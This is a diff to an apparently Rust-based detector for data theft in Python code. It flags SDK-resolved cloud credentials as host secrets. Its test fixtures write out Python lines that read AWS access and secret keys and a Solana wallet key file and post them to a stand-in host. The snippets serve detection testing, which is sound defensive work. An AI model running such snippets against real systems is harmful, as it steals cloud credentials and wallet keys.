@@ -1860,6 +1860,10 @@ impl<'t> Py<'t> {
         if is_hostinfo(&name) || name == "os.getcwd" {
             return HOST;
         }
+        // The host's cloud keys as the SDK resolved them (boto3/botocore).
+        if name.ends_with("get_credentials") || name.ends_with("get_frozen_credentials") {
+            return HOST;
+        }
         if name == "open" || name == "io.open" || name == "codecs.open" {
             let sensitive = self.args(n).first().is_some_and(|p| {
                 let t = self.cmd_text(*p, 0);
@@ -3515,6 +3519,21 @@ mod tests {
 
     fn rules(s: &Sink) -> Vec<&'static str> {
         s.findings.iter().map(|f| f.rule).collect()
+    }
+
+    #[test]
+    fn cloud_keys_the_sdk_resolved_are_host_secrets() {
+        let sent = "import boto3, requests\nc = boto3.Session().get_credentials()\nrequests.post('http://x.test/a', json={'k': c.access_key, 's': c.secret_key})\n";
+        assert!(rules(&run(sent)).contains(&"EXFIL-SEND-COLLECTED"));
+        let used = "import boto3, requests\nc = boto3.Session().get_credentials()\nrequests.post('http://x.test/a', json={'region': 'eu'})\n";
+        assert!(!rules(&run(used)).contains(&"EXFIL-SEND-COLLECTED"));
+        // A wallet key file read and sent is stolen data.
+        let wallet = "import os, json, urllib.request\nk = json.load(open(os.path.expanduser('~/.config/solana/id.json')))\nurllib.request.urlopen('https://x.test/k', data=json.dumps(k).encode())\n";
+        let r = rules(&run(wallet));
+        assert!(
+            r.contains(&"STEAL-WALLET") && r.contains(&"EXFIL-SEND-COLLECTED"),
+            "{r:?}"
+        );
     }
 
     #[test]
